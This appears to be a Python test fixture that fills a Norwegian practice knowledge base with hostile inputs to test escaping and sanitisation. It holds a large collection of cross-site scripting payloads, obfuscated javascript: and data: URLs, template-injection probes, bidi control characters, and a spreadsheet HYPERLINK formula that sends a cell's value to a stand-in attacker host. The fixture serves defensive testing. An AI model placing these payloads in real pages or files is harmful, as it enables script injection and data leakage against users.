"""A practice that means harm in everything it says, and words and places that do so too."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from kb.frontmatter import parse_mapping
from web.web_library import plant

EVIL = "kapret"
"""The variable of the page that is set if anything of this runs."""
SCRIPT = f"<script>window.{EVIL}=1</script>"
HARM = (
    f"{SCRIPT}<img src=x onerror=window.{EVIL}=1><svg onload=window.{EVIL}=1></svg>"
    f"\"' onmouseover='window.{EVIL}=1' style='position:fixed;background:url(https://ond.example/stil)'>"
    f"</p></div></article></main></textarea></style></title><iframe src='javascript:parent.{EVIL}=1'></iframe>"
    f"<!-- ]]> --> [x](javascript:window.{EVIL}=1) ![y](https://ond.example/bilde.png) <https://ond.example/lenke>"
    " :red[rød] :material/delete: :smile: a -> b $x^2$ **fet** {title} %s \u202esnudd\u202c null\u200bbredde"
    f"<meta http-equiv=refresh content='0;url=https://ond.example/'><base href=https://ond.example/>"
    f"<link rel=stylesheet href=https://ond.example/stil.css><object data=data:text/html,x></object><embed src=x>"
    f"<form action=https://ond.example/><input autofocus onfocus=window.{EVIL}=1></form>"
    f"<details open ontoggle=window.{EVIL}=1>x</details><video><source onerror=window.{EVIL}=1></video>"
    f"<svg><animate onbegin=window.{EVIL}=1 /><use href='data:image/svg+xml,x' /></svg><math href=javascript:x>y</math>"
    f"<a href=' java\tscript:window.{EVIL}=1' ping=https://ond.example/>z</a><template><script>1</script></template>"
    f" [a](JaVaScRiPt&colon;window.{EVIL}=1) [b](java&#x0A;script:x) [c](vbscript:x) [d](//ond.example/) [e](\\\\ond)"
    " ![f](//ond.example/f.png) [g](data:text/html;base64,PHNjcmlwdD4=) <javascript:x> [h]: https://ond.example/"
    f" $\\href{{javascript:window.{EVIL}=1}}{{x}}$ $$\\includegraphics{{https://ond.example/x}}$$"
    " {{7*7}} {% raw %} ${7*7} <%= 7*7 %> #{7*7} :streamlit: :blue-background[i] :rainbow[j] :small[k] :orange-badge[l]"
    " \u2066vendt\u2069 \ufeff \u2028 z\u0335\u0336\u0337"
)
TITLE = f"Vaktliste {HARM}"
FORMULA = '=HYPERLINK("https://ond.example/?a="&A1;"gevinst")'
HOSTILE_ID = "oslo-ond"
LONG_ID = "oslo-lang"
ODD_FILE = f'oslo-"><img src=x onerror=window.{EVIL}=1>'
ODD_ID = f"oslo-img-src-x-onerror-window-{EVIL}-1"
"""What is made of the name of that file."""
LONG = "Lang tittel " * 8500
"""A hundred thousand signs."""
BORROWED = "viborg-skaermbesoeg"


def plant_hostile(root: Path) -> None:
    """The small repository with what means harm in it; nothing is indexed."""
    plant(root)
    practices = root / "practices"
    folder = practices / "no" / "oslo"
    (folder / f"{HOSTILE_ID}.md").write_text(_file(_front(), _BODY), encoding="utf-8")
    cards = {
        language: {"by": "machine", "title": f"{language} {TITLE}", "summary": HARM, "questions": [HARM, FORMULA]}
        for language in ("nn", "da", "sv", "en")
    }
    (folder / f"{HOSTILE_ID}.i18n.yaml").write_text(_yaml(cards), encoding="utf-8")
    odd = {"title": "Rart navn", "language": "nb", "place": "no/oslo", "status": "idea"}
    (folder / f"{ODD_FILE}.md").write_text(_file(odd, f"## Utfordringen\n\n{HARM}\n"), encoding="utf-8")
    long = {"title": LONG, "summary": LONG, "language": "nb", "place": "no/oslo", "status": "idea"}
    (folder / f"{LONG_ID}.md").write_text(_file(long, f"## Utfordringen\n\n{LONG}\n"), encoding="utf-8")
    _spoil(practices / "vocabulary.yaml", practices / "places.yaml")


def _front() -> dict[str, Any]:
    return {
        "title": TITLE,
        "summary": HARM,
        "language": "nb",
        "place": ["no/oslo", "no/oslo/ond"],
        "areas": ["ond"],
        "themes": ["ond"],
        "status": "pilot",
        "status_as_of": "2020-02",
        "started": "2019",
        "evidence": "experience",
        "evidence_note": HARM,
        "questions": [HARM, FORMULA],
        "results": [
            {
                "kind": kind,
                "statement": FORMULA if kind == "realised" else HARM,
                "indicator": HARM,
                "value": FORMULA,
                "unit": HARM,
                "period": HARM,
            }
            for kind in ("realised", "expected")
        ],
        "borrowed_from": [
            {"practice": BORROWED, "note": HARM},
            {"where": HARM, "title": HARM, "url": f"javascript:window.{EVIL}=1", "note": HARM},
            {"place": HARM, "title": FORMULA, "url": "data:text/html,<script>alert(1)</script>"},
        ],
        "related": [HARM],
        "contact": f"javascript:window.{EVIL}=1",
        "sources": [
            {"title": HARM, "url": f"javascript:window.{EVIL}=1", "publisher": HARM, "year": HARM},
            {"title": HARM, "url": f'https://example.org/" onclick="window.{EVIL}=1'},
        ],
        "reviewed": HARM,
        "assessment": {"feasibility": HARM, "value": "high", "decision": "pending", "why": HARM},
    }


_BODY = f"""
## Utfordringen

{HARM}

Vi mangler vikarer. <div onclick="window.{EVIL}=1">trykk</div> <style>body{{display:none}}</style>

## {HARM.replace("[x]", "x")}

{HARM}

## Slik gjør vi det

- {HARM}
- {FORMULA}

| {SCRIPT} | b |
|---|---|
| {FORMULA} | [lenke](data:text/html;base64,PHNjcmlwdD4=) |

## Dette må til

- {HARM}
- {FORMULA}

## Lærdommer

- {HARM}
- Passer ikke for alle: {HARM}
"""


def _spoil(vocabulary: Path, places: Path) -> None:
    """Words and places with harm in their names, and labels of the schema's own keys with harm after them."""
    words: dict[str, Any] = parse_mapping(vocabulary.read_text(encoding="utf-8")).data
    for kind in ("areas", "themes"):
        words[kind]["ond"] = dict.fromkeys(("nb", "nn", "da", "sv", "en"), HARM)
    for kind, key in (("statuses", "pilot"), ("evidence", "experience"), ("countries", "no"), ("languages", "sv")):
        words[kind][key] = {language: f"{name} {HARM}" for language, name in words[kind][key].items()}
    words["synonyms"] = [{"nb": ["vikar", HARM], "sv": [FORMULA]}, *words["synonyms"]]
    vocabulary.write_text(_yaml(words), encoding="utf-8")
    where: dict[str, Any] = parse_mapping(places.read_text(encoding="utf-8")).data
    where["no/oslo/ond"] = {"name": HARM, "kind": "district", "parent": "no/oslo", "lat": "59.91", "lon": "10.75"}
    places.write_text(_yaml(where), encoding="utf-8")


def _file(front: dict[str, Any], body: str) -> str:
    return f"---\n{_yaml(front)}---\n{body}"


def _yaml(data: dict[str, Any]) -> str:
    """Each value as JSON, which is YAML that no sign in it can break out of."""
    return "".join(f"{json.dumps(str(key))}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in data.items())
